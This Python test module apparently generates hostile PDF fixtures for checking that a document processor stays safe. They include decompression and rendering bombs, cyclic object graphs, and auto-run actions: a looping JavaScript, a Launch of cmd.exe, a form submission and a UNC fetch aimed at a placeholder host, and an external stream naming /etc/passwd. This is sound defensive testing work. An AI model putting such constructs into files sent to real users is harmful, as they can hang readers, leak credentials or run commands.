# ruff: noqa: E501 - a table of bytes reads better in long rows
"""Hostile PDFs, written object by object."""

from __future__ import annotations

import io
import zlib
from collections.abc import Iterator, Mapping

import pikepdf

from hostilekit.trap import Trap

Objects = dict[int, bytes]
TEXT = b"BT /F1 24 Tf 72 700 Td (Stranger's page) Tj ET 72 600 m 500 600 l 500 300 l S"
LOOSE = "ok|damaged|empty"


def stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


def packed(content: bytes, more: bytes = b"") -> bytes:
    return stream(zlib.compress(content, 9), b"/Filter /FlateDecode " + more)


def plain(
    *, page: bytes = b"", box: bytes = b"[0 0 595 842]", content: bytes | None = None,
    resources: bytes = b"", catalog: bytes = b"", pages: bytes = b"/Kids [3 0 R] /Count 1",
    more: Mapping[int, bytes] | None = None,
) -> Objects:  # fmt: skip
    """One page with text and lines; the keywords add to its objects."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        2: b"<< /Type /Pages %s >>" % pages,
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> %s >> %s >>" % (box, resources, page),
        4: stream(TEXT) if content is None else content,
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        **(more or {}),
    }


def pdf(objects: Objects, trailer: bytes = b"", root: bytes = b"/Root 1 0 R") -> bytes:
    """The objects as a file with a classic table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        at = offsets.get(number)
        out += b"%010d 00000 %s \n" % (at or 0, b"n" if at else b"f")
    out += b"trailer\n<< /Size %d %s %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer, start)
    return bytes(out)


def image(more: bytes, body: bytes) -> bytes:
    """A page that shows one picture."""
    shown = stream(b"500 0 0 700 40 60 cm /Im0 Do")
    picture = stream(body, b"/Type /XObject /Subtype /Image " + more)
    return pdf(plain(content=shown, resources=b"/XObject << /Im0 6 0 R >>", more={6: picture}))


def locked(user: str, owner: str, revision: int) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(plain()))) as opened:
        keys = pikepdf.Encryption(user=user, owner=owner, R=revision, aes=revision >= 4)
        opened.save(out, encryption=keys, static_id=True) if revision < 5 else opened.save(
            out, encryption=keys
        )
    return out.getvalue()


def traps() -> Iterator[Trap]:
    for part in (_locked, _cut, _trees, _boxes, _bombs, _pictures, _active, _loops, _oddities):
        for name, content, status, why in part():
            yield Trap(f"pdf/{name}.pdf", content, status, why)


Row = tuple[str, bytes, str, str]


def _locked() -> Iterator[Row]:
    yield "user-password-aes256", locked("secret", "owner", 6), "encrypted", "needs a password"
    yield "user-password-aes128", locked("secret", "owner", 4), "encrypted", "needs a password"
    yield "owner-password", locked("", "owner", 6), "ok", "opens for everybody"
    handler = b"/Encrypt << /Filter /Unknown /V 4 /R 4 >> /ID [<00> <00>]"
    yield "unknown-security-handler", pdf(plain(), handler), "encrypted|damaged", "no such handler"


def _cut() -> Iterator[Row]:
    whole = pdf(plain())
    yield "half", whole[: len(whole) // 2], LOOSE, "the second half is missing"
    yield "without-table", whole[: whole.rindex(b"xref\n0")], "ok|damaged", "no table at the end"
    yield "garbage-before", b"\0\xffgarbage\n" * 60 + whole, "ok", "readers look past it"
    yield "much-garbage-before", b"\x01\x02\xff\xfe" * 3000 + whole, "ok|damaged", "header too late"
    yield "garbage-after", whole + b"\xde\xad\xbe\xef" * 5000, "ok", "mail gateways do this"
    yield "web-page-after", whole + b"<html><script>x</script></html>" * 99, "ok", "saved badly"
    yield "header-only", b"%PDF-1.7\n", "damaged", "nothing but the header"
    yield "zeros-after-header", b"%PDF-1.7\n" + b"\0" * 20_000, "damaged", "a broken download"
    yield "wrong-startxref", whole.replace(b"startxref\n", b"startxref\n9"), "ok", "table is found"
    table = whole[: whole.index(b"xref\n0")] + b"xref\n0 6\n" + b"0000000000 00000 n \n" * 6
    yield "table-of-zeros", table + whole[whole.index(b"trailer") :], LOOSE, "no offset is right"
    yield "no-root", pdf(plain(), root=b""), LOOSE, "the trailer names no catalogue"
    yield "root-is-a-number", pdf(plain(), root=b"/Root 7"), LOOSE, "the catalogue is no object"


def _trees() -> Iterator[Row]:
    cyclic = plain(pages=b"/Kids [2 0 R] /Count 1")
    yield "pages-hold-themselves", pdf(cyclic), LOOSE, "cyclic page tree"
    pair = plain(pages=b"/Kids [6 0 R] /Count 9")
    pair[6] = b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 6 0 R 3 0 R] /Count 9 >>"
    yield "pages-in-a-circle", pdf(pair), LOOSE, "two nodes hold one another"
    yield "kids-are-the-catalogue", pdf(plain(pages=b"/Kids [1 0 R] /Count 1")), LOOSE, "no page"
    deep = plain(pages=b"/Kids [10 0 R] /Count 1")
    for n in range(10, 5010):
        deep[n] = b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (n - 1, n + 1)
    deep[5010] = deep[3]
    yield "page-below-5000-nodes", pdf(deep), LOOSE, "deeply nested page tree"
    claims = plain(pages=b"/Kids [3 0 R] /Count 100000")
    yield "claims-100000-pages", pdf(claims), "unsafe|ok", "one page, 100,000 claimed"
    many = plain(pages=b"/Kids [" + b"3 0 R " * 100_000 + b"] /Count 100000")
    yield "100000-pages", pdf(many), "unsafe", "one page 100,000 times"
    yield "claims-no-page", pdf(plain(pages=b"/Kids [3 0 R] /Count 0")), LOOSE, "count of zero"
    yield "no-pages", pdf(plain(pages=b"/Kids [] /Count 0")), LOOSE, "an empty tree"
    yield "negative-count", pdf(plain(pages=b"/Kids [3 0 R] /Count -5")), LOOSE, "count below zero"
    huge = plain(pages=b"/Kids [3 0 R] /Count 2147483647")
    yield "claims-two-billion-pages", pdf(huge), LOOSE + "|unsafe", "largest number"
    nested = plain(catalog=b"/X " + b"[" * 100_000 + b"]" * 100_000)
    yield "arrays-100000-deep", pdf(nested), LOOSE, "deeply nested objects"
    inside = plain(content=stream(b"/X " + b"<< /A " * 50_000 + b"1" + b">> " * 50_000 + b" DP"))
    yield "dictionaries-50000-deep", pdf(inside), "ok", "deep nesting in the page's content"
    yield (
        "half-a-kid",
        pdf(plain(pages=b"/Kids [3 0 R 99 0 R null] /Count 3")),
        "ok|damaged",
        "gone",
    )


def _boxes() -> Iterator[Row]:
    for name, box, why in (
        ("huge", b"[0 0 200000 200000]", "70 m wide"),
        ("wide", b"[0 0 14400 14400]", "5 m wide"),
        ("absurd", b"[0 0 1e30 1e30]", "beyond numbers"),
        ("zero", b"[0 0 0 0]", "no size"),
        ("upside-down", b"[595 842 0 0]", "corners the other way round"),
        ("needle", b"[0 0 0.01 842]", "thinner than a pixel"),
        ("words", b"[(a) (b) /c null]", "no numbers"),
        ("self", b"3 0 R", "the box is the page"),
    ):
        yield f"box-{name}", pdf(plain(box=box)), "ok|damaged", why
    yield "user-unit", pdf(plain(page=b"/UserUnit 75000")), "ok|damaged", "a page of 15 km"
    yield "rotated-by-37", pdf(plain(page=b"/Rotate 37")), "ok", "no right angle"


def _bombs() -> Iterator[Row]:
    spaces = packed(b" " * (150 << 20))
    yield "content-bomb", pdf(plain(content=spaces)), "ok|damaged", "150 MB of blanks in 150 KB"
    lines = packed(b"0 0 m 9 9 l S " * 400_000)
    yield "400000-lines", pdf(plain(content=lines)), "ok|damaged", "drawn for ever"
    words = b"BT /F1 1 Tf " + b"1 0 0 1 9 9 Tm (a) Tj " * 60_000 + b"ET"
    yield "60000-fragments", pdf(plain(content=packed(words))), "ok|damaged", "letters one by one"
    twice = zlib.compress(zlib.compress(b"\0" * (100 << 20), 9), 9)
    chained = stream(twice, b"/Filter [/FlateDecode /FlateDecode]")
    yield "bomb-in-a-bomb", pdf(plain(content=chained)), "ok|damaged", "packed twice"
    chain = b"/Filter [" + b"/FlateDecode " * 2000 + b"]"
    yield "2000-filters", pdf(plain(content=stream(TEXT, chain))), "ok|damaged", "endless unpacking"
    fan = plain(content=stream(b"/X10 Do"), resources=b"/XObject << /X10 20 0 R >>")
    for n in range(10):
        held = b"/Resources << /XObject << /Y %d 0 R >> >>" % (21 + n)
        form = b"/Type /XObject /Subtype /Form /BBox [0 0 600 900] " + held
        fan[20 + n] = stream(b"/Y Do " * 12, form)
    fan[30] = stream(b"0 0 9 9 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    yield "forms-fan-out", pdf(fan), "ok|damaged", "12 to the power of 10 drawings"
    tile = plain(
        content=stream(b"/Pattern cs /P0 scn 0 0 14400 14400 re f"),
        box=b"[0 0 14400 14400]",
        resources=b"/Pattern << /P0 6 0 R >>",
    )
    tile[6] = stream(
        b"0 0 1 1 re f",
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] "
        b"/XStep 0.01 /YStep 0.01 /Resources << >>",
    )
    yield "tiles-without-end", pdf(tile), "ok|damaged", "a trillion tiles"


def _pictures() -> Iterator[Row]:
    rgb = b"/BitsPerComponent 8 /ColorSpace /DeviceRGB "
    bit = b"/BitsPerComponent 1 /ColorSpace /DeviceGray "
    flate = b"/Filter /FlateDecode "
    rows = zlib.compress(b"\0" * (30_000 * 3_750), 9)
    yield (
        "bits-900-megapixels", image(b"/Width 30000 /Height 30000 " + bit + flate, rows),
        "ok", "a bomb of one bit a pixel",
    )  # fmt: skip
    lies = image(b"/Width 65535 /Height 65535 " + rgb + flate, zlib.compress(b"x" * 999))
    yield "rgb-claims-12-gigabytes", lies, "ok|damaged", "the data is not there"
    jpeg = b"\xff\xd8\xff\xc0\0\x11\x08\xff\xdc\xff\xdc\x03\1\x22\0\2\x11\1\3\x11\1\xff\xd9"
    dct = b"/Width 65500 /Height 65500 /Filter /DCTDecode " + rgb
    yield "jpeg-claims-4-gigapixels", image(dct, jpeg), "ok|damaged", "a JPEG head alone"
    size = (60_000).to_bytes(4, "big")
    siz = b"\xff\x51\0\x2f\0\0" + size * 2 + b"\0" * 8 + size * 2 + b"\0" * 8 + b"\0\3"
    jpx = b"\xff\x4f" + siz + b"\7\1\1" * 3 + b"\xff\xd9"
    yield "jpx-claims-huge", image(b"/Filter /JPXDecode /Width 9 /Height 9", jpx), "ok", "no data"
    junk = bytes(range(256)) * 40
    jbig = b"/Width 2000 /Height 2000 /Filter /JBIG2Decode " + bit
    yield "jbig2-garbage", image(jbig, junk), "ok", "no segment in it"
    info = b"\0\0\0\0\x30\0\1\0\0\0\x13" + size * 2 + b"\0" * 11
    yield "jbig2-claims-huge", image(jbig, info), "ok", "a page of 3.6 gigapixels"
    fax = b"/Width 60000 /Height 60000 /Filter /CCITTFaxDecode /DecodeParms << /K -1 " + bit
    yield "fax-claims-huge", image(fax + b">> " + bit, b"\x26\xa0" * 50), "ok", "few bytes of fax"
    runs = image(b"/Width 9000 /Height 9000 /Filter /RunLengthDecode " + rgb, b"\x81\0" * 9000)
    yield "run-lengths", runs, "ok", "short of data"
    unknown = image(b"/Width 10 /Height 10 /Filter /NoSuchDecode " + rgb, junk)
    yield "unknown-filter", unknown, "ok", "nobody can decode it"
    inline = stream(b"BI /W 60000 /H 60000 /CS /RGB /BPC 8 ID " + junk + b" EI")
    yield "inline-claims-huge", pdf(plain(content=inline)), "ok|damaged", "an inline picture"
    mask = plain(
        content=stream(b"99 0 0 99 0 0 cm /Im0 Do"), resources=b"/XObject << /Im0 6 0 R >>"
    )
    head = b"/Type /XObject /Subtype /Image /Width 9 /Height 9 /SMask 6 0 R " + rgb
    mask[6] = stream(b"\x7f" * 243, head)
    yield "picture-masks-itself", pdf(mask), "ok", "the mask of a picture is the picture"


def _active() -> Iterator[Row]:
    script = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); while\\(1\\);) >>"
    yield "script", pdf(plain(catalog=script)), "ok", "never run"
    launch = b"/OpenAction << /S /Launch /F (/bin/touch) /Win << /F (cmd.exe) >> >>"
    yield "launch", pdf(plain(catalog=launch)), "ok", "never run"
    sends = b"/OpenAction << /S /SubmitForm /F (http://192.0.2.1/x) >>"
    yield "submits", pdf(plain(catalog=sends)), "ok", "never sent"
    remote = b"/OpenAction << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\share\\\\a.pdf) /D [0 /Fit] >>"
    yield "goes-elsewhere", pdf(plain(catalog=remote)), "ok", "never fetched"
    files = b"/Names << /EmbeddedFiles << /Names [(virus.exe) 6 0 R] >> >>"
    held = {
        6: b"<< /Type /Filespec /F (virus.exe) /EF << /F 7 0 R >> >>",
        7: stream(b"MZ" + b"\0" * 500, b"/Type /EmbeddedFile"),
    }
    yield "embedded-program", pdf(plain(catalog=files, more=held)), "ok", "never opened"
    xfa = b"/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true"
    form = stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")
    waits = stream(b"BT /F1 20 Tf 72 700 Td (Please wait...) Tj ET")
    full = plain(catalog=xfa, more={6: form}, content=waits)
    yield "xfa-placeholder", pdf(full), "unsupported|ok", "the form is not in the page"
    kept = plain(catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>", more={6: form})
    yield "xfa-with-page", pdf(kept), "ok", "the page stands by itself"
    external = plain(more={4: b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream"})
    yield "content-from-outside", pdf(external), "ok", "the stream is a file of ours"


def _loops() -> Iterator[Row]:
    yield "table-before-itself", _looped_table(), "ok|damaged", "/Prev leads to the same table"
    inside = stream(b"6 0 << /A 6 0 R >>", b"/Type /ObjStm /N 1 /First 4 /Extends 6 0 R")
    yield "object-stream-in-itself", pdf(plain(more={6: inside})), "ok", "it extends itself"
    endless = b"<< /Length 4 0 R >>\nstream\n" + TEXT + b"\nendstream"
    yield "length-is-itself", pdf(plain(content=endless)), "ok|damaged", "the length is the stream"
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Resources << /XObject << /X 6 0 R >> >>"
    own = plain(content=stream(b"/X Do"), resources=b"/XObject << /X 6 0 R >>")
    own[6] = stream(b"/X Do /X Do", form)
    yield "form-draws-itself", pdf(own), "ok", "a form in itself"
    glyph = plain(content=stream(b"BT /F2 99 Tf 72 400 Td (aaa) Tj ET"))
    glyph[3] = glyph[3].replace(b"/F1 5 0 R", b"/F1 5 0 R /F2 6 0 R")
    glyph[6] = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [.001 0 0 .001 0 0] "
        b"/CharProcs << /a 7 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 "
        b"/Widths [1000] /Resources << /Font << /F2 6 0 R >> >> >>"
    )
    glyph[7] = stream(b"1000 0 d0 BT /F2 999 Tf (a) Tj ET")
    yield "letter-draws-itself", pdf(glyph), "ok", "a Type 3 glyph in itself"
    outline = plain(catalog=b"/Outlines 6 0 R")
    outline[6] = b"<< /First 7 0 R /Last 7 0 R /Count 9 >>"
    outline[7] = b"<< /Title (a) /Next 7 0 R /First 7 0 R /Parent 7 0 R >>"
    yield "outline-in-a-circle", pdf(outline), "ok", "never asked for"
    fields = plain(catalog=b"/AcroForm << /Fields [6 0 R] >>", page=b"/Annots [6 0 R]")
    fields[6] = (
        b"<< /FT /Tx /T (a) /V (b) /Kids [6 0 R] /Parent 6 0 R /Subtype /Widget "
        b"/Rect [9 9 99 99] /AP << /N 7 0 R >> >>"
    )
    fields[7] = stream(b"/Fm Do", form.replace(b"/X 6", b"/Fm 7"))
    yield "field-in-itself", pdf(fields), "ok|damaged", "form fields in a circle"
    chars = plain(content=stream(b"BT /F2 20 Tf 72 400 Td <00410042> Tj ET"))
    chars[3] = chars[3].replace(b"/F1 5 0 R", b"/F1 5 0 R /F2 6 0 R")
    chars[6] = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding 7 0 R /ToUnicode 7 0 R "
        b"/DescendantFonts [6 0 R] >>"
    )
    chars[7] = stream(
        b"begincmap /UseCMap 7 0 R def 1 begincodespacerange <00> <ff>", b"/UseCMap 7 0 R"
    )
    yield "font-descends-from-itself", pdf(chars), "ok", "a composite font in itself"


def _looped_table() -> bytes:
    whole = pdf(plain())
    start = whole.rindex(b"startxref\n") + 10
    at = int(whole[start : whole.index(b"\n", start)])
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % at)


def _oddities() -> Iterator[Row]:
    broken = bytearray(packed(TEXT * 50))
    at = broken.index(b"stream\n") + 30
    broken[at : at + 40] = b"\xff" * 40
    yield (
        "corrupt-content",
        pdf(plain(content=bytes(broken))),
        "ok",
        "the content cannot be unpacked",
    )
    gone = plain()
    del gone[4]
    yield "no-content", pdf(gone), "ok", "the content is not in the file"
    yield "empty-page", pdf(plain(content=stream(b""))), "ok", "a page without anything"
    binary = stream(bytes(range(256)) * 200)
    yield "content-is-noise", pdf(plain(content=binary)), "ok", "operators without sense"
    shade = plain(content=stream(b"/S0 sh"), resources=b"/Shading << /S0 6 0 R >>")
    shade[6] = b"<< /ShadingType 2 /ColorSpace /DeviceRGB /Coords [0 0 1 1] /Function 7 0 R >>"
    shade[7] = stream(
        b"\0" * 99,
        b"/FunctionType 0 /Domain [0 1] /Range [0 1 0 1 0 1] /Size [2147483647] /BitsPerSample 32",
    )
    yield "shading-of-two-billion-samples", pdf(shade), "ok|damaged", "claims beyond its data"
    yield "name\u202egpj", pdf(plain()), "ok", "a name that reads backwards"
